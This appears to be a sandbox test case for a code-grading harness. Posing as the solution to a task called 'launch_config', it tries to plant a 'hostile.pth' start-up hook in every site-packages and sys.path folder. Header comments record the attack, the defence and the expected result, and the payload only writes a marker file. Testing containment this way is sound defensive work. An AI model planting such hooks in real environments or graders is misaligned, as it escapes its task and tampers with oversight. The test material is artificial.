# A .pth file that runs code is written to every site folder.
# attack: .pth
# defence: packages are read-only, home is the worker's own folder
# loses: everything
# says: returned nothing

# %% task: launch_config
import os
import site
import sys

for folder in dict.fromkeys([os.getcwd(), site.getusersitepackages(), *site.getsitepackages(), *sys.path]):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "hostile.pth"), "x") as file:
            file.write("import os; open('/tmp/hostile-was-here', 'w')\n")
    except OSError:
        continue


def launch_config(n, h_out, w_out, k):
    return None
